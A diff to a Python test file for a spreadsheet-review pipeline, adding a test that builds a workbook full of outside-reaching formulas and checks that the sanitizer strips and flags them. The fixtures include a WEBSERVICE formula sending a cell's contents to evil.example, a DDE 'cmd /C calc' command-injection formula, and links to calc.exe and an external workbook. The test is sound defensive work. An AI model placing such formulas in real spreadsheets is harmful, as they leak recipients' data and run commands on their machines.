@@ -150,7 +150,7 @@ def test_row5_damaged_ledger_stops_and_recover_rebuilds_it(
     assert len(kept) == (0 if damage == "missing" else 1)  # set aside, never deleted
     assert not ledger_file.exists()
 
-    code, text, _ = run_cli(capsys, "ledger", "recover", "--out", str(out), "--workers", "0")
+    code, text, _ = run_cli(capsys, "ledger", "recover", "--out", str(out))
     assert code == 0 and "已从归档重建审核账本：2 个文件" in one_line(text)
     with Ledger(out / "ledger.sqlite3") as ledger:
         after = sorted((e.sha256, e.original_path, e.status, e.unit, e.dest_path) for e in ledger.entries())
@@ -241,6 +241,7 @@ def test_row7_a_writer_that_cannot_copy_the_sheets_says_so_in_chinese(
     import openpyxl
 
     from pipeline.report import annotate
+    from pipeline.report.marks import MSG_SHEETS_LEFT_OUT
 
     def fails(*args: object) -> None:
         raise ValueError("a sheet this writer cannot reproduce")
@@ -252,4 +253,121 @@ def test_row7_a_writer_that_cannot_copy_the_sheets_says_so_in_chinese(
     result = tmp_path / "out" / "garbage_book_审核结果.xlsx"
     assert openpyxl.load_workbook(result).sheetnames == ["审核结果"]
     texts = _sheet_texts(result, "审核结果")
-    assert annotate.MSG_SHEETS_LEFT_OUT in texts and "A1.REQ.CONTACT" in texts
+    assert MSG_SHEETS_LEFT_OUT in texts and "A1.REQ.CONTACT" in texts
+
+
+# ------------------------------------------------------------------ row 3: formulas that reach out
+
+_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+_EVIL = "http://evil.example"
+#: Cells appended to 附件1 (row, formula as stored, cached value or None, type): all but the SUM reach out.
+OUTSIDE = {
+    200: (f'WEBSERVICE("{_EVIL}/?"&amp;B3)', "ok", "str"),
+    201: ("cmd|' /C calc'!A0", "0", "str"),
+    202: (f'HYPERLINK("{_EVIL}","点此")', "点此", "str"),
+    203: ('HYPERLINK("file:///C:/Windows/System32/calc.exe","calc")', "calc", "str"),
+    204: ("'[other.xlsx]Sheet1'!A1", "5", None),
+    205: ("[1]Sheet1!A1", "6", None),
+    206: ("Evil+1", "7", None),
+    207: (f'_xlfn.FILTERXML(_xlfn.WEBSERVICE("{_EVIL}/x"),"//a")', None, "str"),  # never calculated
+}
+ORDINARY = 209  # =SUM(1,2), cached 3: stays
+
+
+def outside_reaching_xlsx(path: Path) -> Path:
+    """A valid submission whose 附件1 also holds every kind of formula and link that reaches outside the
+    workbook, a defined name holding WEBSERVICE, an externalLink part with an http target, a cell hyperlink
+    to an outside target, and one ordinary formula."""
+    import zipfile
+
+    base = h.write_submission(path.with_suffix(".base.xlsx"), unit="外部链接测试单位")
+    with zipfile.ZipFile(base) as z:
+        sheet = z.read("xl/worksheets/sheet1.xml").decode()
+        book, book_rels = z.read("xl/workbook.xml").decode(), z.read("xl/_rels/workbook.xml.rels").decode()
+        types = z.read("[Content_Types].xml").decode()
+    rows = "".join(
+        f'<row r="{r}"><c r="A{r}"{f" t={chr(34)}{t}{chr(34)}" if t else ""}><f>{f}</f>'
+        + (f"<v>{v}</v>" if v is not None else "")
+        + "</c></row>"
+        for r, (f, v, t) in OUTSIDE.items()
+    )
+    rows += '<row r="208"><c r="A208" t="inlineStr"><is><t>链接</t></is></c></row>'
+    rows += f'<row r="{ORDINARY}"><c r="A{ORDINARY}"><f>SUM(1,2)</f><v>3</v></c></row>'
+    sheet = sheet.replace("</sheetData>", rows + "</sheetData>").replace(
+        "<printOptions", '<hyperlinks><hyperlink ref="A208" r:id="rIdEvil"/></hyperlinks><printOptions'
+    )
+    link = f'<Relationship Id="rIdEvil" Type="{_R}/hyperlink" Target="{_EVIL}/page" TargetMode="External"/>'
+    pkg = "http://schemas.openxmlformats.org/package/2006/relationships"
+    sheet_rels = f'<Relationships xmlns="{pkg}">{link}</Relationships>'
+    refs = '<externalReferences><externalReference r:id="rIdExt"/></externalReferences>'
+    book = book.replace("</sheets>", f"</sheets>{refs}")
+    evil_name = f'<definedName name="Evil">WEBSERVICE("{_EVIL}/n")</definedName>'
+    book = book.replace("<definedNames>", f"<definedNames>{evil_name}")
+    target = "externalLinks/externalLink1.xml"
+    book_rels = book_rels.replace(
+        "</Relationships>", f'<Relationship Id="rIdExt" Type="{_R}/externalLink" Target="{target}"/></Relationships>'
+    )
+    ct = "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"
+    types = types.replace("</Types>", f'<Override PartName="/xl/{target}" ContentType="{ct}"/></Types>')
+    external = (
+        '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
+        f'xmlns:r="{_R}"><externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames>'
+        '<sheetDataSet><sheetData sheetId="0"><row r="1"><cell r="A1"><v>6</v></cell></row></sheetData>'
+        "</sheetDataSet></externalBook></externalLink>"
+    )
+    external_rels = (
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        f'<Relationship Id="rId1" Type="{_R}/externalLinkPath" Target="{_EVIL}/other.xlsx" TargetMode="External"/>'
+        "</Relationships>"
+    )
+    h.rewrite_zip(
+        base,
+        path,
+        replace={
+            "xl/worksheets/sheet1.xml": sheet.encode(),
+            "xl/workbook.xml": book.encode(),
+            "xl/_rels/workbook.xml.rels": book_rels.encode(),
+            "[Content_Types].xml": types.encode(),
+        },
+        add={
+            "xl/worksheets/_rels/sheet1.xml.rels": sheet_rels.encode(),
+            "xl/externalLinks/externalLink1.xml": external.encode(),
+            "xl/externalLinks/_rels/externalLink1.xml.rels": external_rels.encode(),
+        },
+    )
+    base.unlink()
+    return path
+
+
+def test_row3_formulas_reaching_out_are_replaced_and_named(tmp_path: Path) -> None:
+    import re
+    import zipfile
+
+    import openpyxl
+
+    from pipeline.check import check_files
+
+    src = outside_reaching_xlsx(tmp_path / "外部链接.xlsx")
+    [result] = check_files([src], out_dir=tmp_path / "out")
+    flagged = sorted(f.cells for f in result.findings if f.rule == "GEN.EXTERNAL")
+    assert flagged == sorted((f"A{r}",) for r in [*OUTSIDE, 208])
+    assert {f.level for f in result.findings if f.rule == "GEN.EXTERNAL"} == {"warning"}
+    assert result.output is not None
+    with zipfile.ZipFile(result.output) as z:
+        parts = {name: z.read(name) for name in z.namelist()}
+    assert not [n for n in parts if "externalLink" in n]
+    sheets = b"".join(data for name, data in parts.items() if name.startswith("xl/worksheets/sheet"))
+    assert re.findall(rb"<f\b[^>]*>(.*?)</f>", sheets) == [b"SUM(1,2)"]  # the one ordinary formula, no other
+    assert b"<f " not in sheets and b"<f/>" not in sheets
+    rels = b"".join(data for name, data in parts.items() if name.endswith(".rels"))
+    assert b"evil" not in rels and b"External" not in rels and b"http://evil" not in parts["[Content_Types].xml"]
+    book = parts["xl/workbook.xml"]
+    assert b"evil" not in book and b"externalReference" not in book and b'definedName name="Evil"' not in book
+    assert b"evil" not in b"".join(
+        data for name, data in parts.items() if "sheet" not in name and "comments" not in name
+    )
+    ws = openpyxl.load_workbook(result.output)["附件1 基础数据表"]
+    assert [ws[f"A{r}"].value for r in (200, 201, 202, 204, 205, 206)] == ["ok", "0", "点此", 5, 6, 7]
+    assert ws["A207"].value.startswith("=_xlfn.FILTERXML") and ws["A207"].data_type == "s"  # the text as typed
+    assert ws[f"A{ORDINARY}"].value == "=SUM(1,2)"  # an ordinary formula stays
+    assert ws["A208"].hyperlink is None
